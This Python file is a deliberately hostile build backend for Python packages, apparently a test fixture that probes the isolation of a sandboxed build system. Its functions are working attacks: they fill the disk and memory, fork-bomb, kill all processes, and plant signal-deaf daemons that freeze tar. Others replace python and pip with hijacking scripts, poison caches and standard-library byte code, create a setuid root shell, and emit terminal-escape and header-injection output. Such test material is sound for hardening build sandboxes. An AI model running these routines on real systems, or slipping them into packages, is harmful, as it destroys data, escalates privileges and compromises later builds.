"""A hostile build backend (PEP 517): the whole of an sdist, but for plan.json, which names what it attempts, and wheels.py.

Attempts print lines "ATTEMPT name: outcome". Run by itself, without a box, it is the counter-proof: what it does to a machine is then done to
a root folder and processes that are thrown away (unboxed.ts).
"""
import itertools
import json
import os
import shutil
import signal
import subprocess
import sys
import sysconfig
import time

import wheels

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "plan.json"), encoding="utf-8") as file:
    PLAN = json.load(file)
MARK = PLAN["mark"]
MB = 1 << 20
HUGE = 10 << 30
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[8m\x9b2J\x08\x08\u202e\x1b[31mred\x1b[0m"


def say(name, outcome):
    print(f"ATTEMPT {name}: {outcome}", flush=True)


def fill_disk():
    for part in itertools.count():
        try:
            with open(f"/tmp/part{part}", "wb", buffering=0) as file:
                file.write(bytes(MB))
        except OSError:
            say("fill the disk", f"full after {part} MB")
            raise


def fill_memory():
    say("fill the memory", "begins")
    held = [os.urandom(MB) * 8 for _ in range(100_000)]
    say("fill the memory", f"took all {len(held) * 8} MB")


def sparse_file():
    with open("huge", "wb") as file:
        file.truncate(HUGE)
    say("make a file of 10 GB", f"made {os.path.getsize('huge')}")


def flood():
    block = (f"{ESCAPES}<script>alert(1)</script>\r\n" * 10_000).encode()
    print("flood begins", flush=True)
    for _ in range(PLAN["blocks"]):
        sys.stdout.buffer.write(block)
    print("\nflood ends", flush=True)


def ignore_end():
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        signal.signal(number, signal.SIG_IGN)
    leave(f"{MARK!r}; import time; time.sleep(600)")
    say("ignore SIGTERM", "sleeps")
    time.sleep(PLAN["sleep"])
    say("ignore SIGTERM", "slept to its end")


def stop_others():
    """A daemon that stops each tar: what carries files out of a run. It lurks before the build goes on."""
    leave(f"""{MARK!r}
import os, signal, time
open("/tmp/{MARK}-lurks", "w").close()
while True:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{{pid}}/comm") as file:
                if file.read().strip() in ("tar", "busybox"):
                    os.kill(int(pid), signal.SIGSTOP)
        except OSError:
            pass
    time.sleep(0)
""")
    while not os.path.exists(f"/tmp/{MARK}-lurks"):
        time.sleep(0.01)
    say("stop what runs beside it", "started")


def end_others():
    say("end what runs beside it", "tries")
    os.kill(-1, signal.SIGKILL)
    time.sleep(1)
    say("end what runs beside it", "done")


def fork_bomb():
    """As if by a typing error: every process forks as long as it can, in sessions of their own."""
    say("fork for ever", "begins")
    end = time.monotonic() + PLAN["sleep"]
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.1)
    os._exit(0)


def hold_output():
    """A daemon to which the output of the build still belongs."""
    leave(f"{MARK!r}; import time; time.sleep(600)", streams=1)
    say("hold the output", "started")


def leave(code, streams=3):
    """A daemon: forked twice, in a session of its own, deaf to all but SIGKILL."""
    deaf = "import signal\nfor n in (1, 2, 15): signal.signal(n, signal.SIG_IGN)\n"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for stream in range(streams):
                os.dup2(null, stream)
            os.execv(sys.executable, [sys.executable, "-c", deaf + code])
        os._exit(0)
    os.wait()


def replace_programs():
    """python3 and pip: on the PATH, where the environment has them, and as modules beside whatever starts Python here."""
    real = os.path.realpath(sys.executable)
    programs = [shutil.which(name, path=folder) for folder in os.environ["PATH"].split(os.pathsep) for name in ("python3", "python", "pip", "auditwheel", "tar")]
    of_machine = sorted({os.path.realpath(path) for path in programs if path} | {real})
    copy = shutil.copy(real, f"/tmp/{MARK}-python")
    script = f"#!/bin/sh\necho HIJACKED-{MARK}\nexec {copy} \"$@\"\n"
    done = [path for path in of_machine if replace(path, script)]
    say("replace the machine's programs", f"replaced {len(done)} of {len(of_machine)}" if done else "refused")
    # Of a build's own environment they are symbolic links; PYTHONHOME tells the copy what it belongs to.
    own = os.path.join(os.environ.get("VIRTUAL_ENV", sys.prefix), "bin")
    home = f"PYTHONHOME={sys.base_prefix}"
    mine = [os.path.join(own, name) for name in ("python3", "python", "pip")]
    done = [path for path in mine if replace(path, script.replace("exec ", f"exec env {home} "))]
    say("replace the environment's programs", f"replaced {len(done)} of {len(mine)}")
    modules = [os.path.join(folder, name) for folder in (os.getcwd(), os.path.dirname(sys.argv[0]), sysconfig.get_path("purelib")) for name in ("sitecustomize.py", "pip.py")]
    done = [path for path in modules if replace(path, f"print('HIJACKED-{MARK}', flush=True)\n")]
    say("put modules before the machine's", f"put {len(done)} of {len(modules)}")


def replace(path, text):
    try:
        if os.path.lexists(path):
            os.unlink(path)
        with open(path, "w", encoding="utf-8") as file:
            file.write(text)
        os.chmod(path, 0o755)
        return True
    except OSError:
        return False


def poison_caches():
    """Whatever the next build may read: caches, settings, byte code of the standard library. Looks first for what an earlier one left."""
    home = os.path.expanduser("~")
    caches = [os.environ.get(name) for name in ("PIP_CACHE_DIR", "CCACHE_DIR", "ZIG_GLOBAL_CACHE_DIR", "ZIG_LOCAL_CACHE_DIR", "XDG_CACHE_HOME", "CARGO_HOME")]
    homes = {home, "/root", "/home/builder"}
    folders = [path for path in caches if path] + [f"{one}/{name}" for one in homes for name in (".cache/pip", ".cache/ccache", ".ccache", ".cache/zig", ".cargo", ".config/pip")]
    folders += ["/tmp", "/var/tmp", "/dev/shm", "/var/cache", "/build", os.path.join(os.path.dirname(json.__file__), "__pycache__"), sysconfig.get_path("include")]
    found, wrote = [], []
    for folder in folders:
        path = os.path.join(folder, f"poison-{MARK}")
        if os.path.exists(path):
            found.append(path)
        try:
            os.makedirs(folder, exist_ok=True)
            replace(path, "poison") and wrote.append(path)
        except OSError:
            pass
    print(f"poison lies in {' '.join(wrote)}", flush=True)
    say("find what another build left", f"found {len(found)}" if found else "nothing there")
    byte_code = os.path.join(os.path.dirname(json.__file__), "__pycache__", f"__init__.{sys.implementation.cache_tag}.pyc")
    say("change the library's byte code", "changed" if replace(byte_code, "poison") else "refused")
    print(f"places {len(folders)}, written {len(wrote)}", flush=True)


def become_root_by_file():
    """A shell that lends the rights of its owner. Without a box that is root."""
    shell = shutil.copy(os.path.realpath("/bin/sh"), "/tmp/shell")
    try:
        os.chown(shell, 0, 0)
    except OSError:
        pass
    os.chmod(shell, 0o6755)
    # A shell without -p would give such rights away by itself.
    told = subprocess.run(["sh", *(["-p"] if os.getuid() == 0 else []), "-c", "id -u"], executable=shell, preexec_fn=be_nobody, stdout=subprocess.PIPE)
    say("lend rights by a file", f"uid {told.stdout.decode().strip()}")


def be_nobody():
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(65534)
        os.setuid(65534)


def break_lines():
    print(f"error: evil\r\nX-Injected: yes\r\n\r\n<script>alert(1)</script>{ESCAPES}", flush=True)
    print(f"error: first {ESCAPES}<script>alert(1)</script>\rX-Injected: yes", flush=True)
    sys.exit(1)


def name_options():
    """Names of things that are missing, of which apks are looked for: first an honest one, then options of apk."""
    if not os.path.exists("/usr/lib/pkgconfig/bobbin.pc"):
        sys.exit("Package bobbin was not found in the pkg-config search path.")
    with open("hostile.c", "w") as file:
        file.write(PLAN["include"])
    sys.exit(subprocess.run(["cc", "-c", "hostile.c"]).returncode or "it compiles")


def name_more_options():
    sys.exit(PLAN["words"])


def attempt(step):
    if PLAN.get("step", "build") == step and PLAN.get("attempt"):
        globals()[PLAN["attempt"]]()


def get_requires_for_build_wheel(settings=None):
    attempt("requires")
    return PLAN.get("requires", [])


def build_wheel(folder, settings=None, metadata=None):
    attempt("build")
    return getattr(wheels, PLAN.get("wheel", "good"))(folder, PLAN)


if __name__ == "__main__":
    get_requires_for_build_wheel()
    os.makedirs("out")
    build_wheel("out")
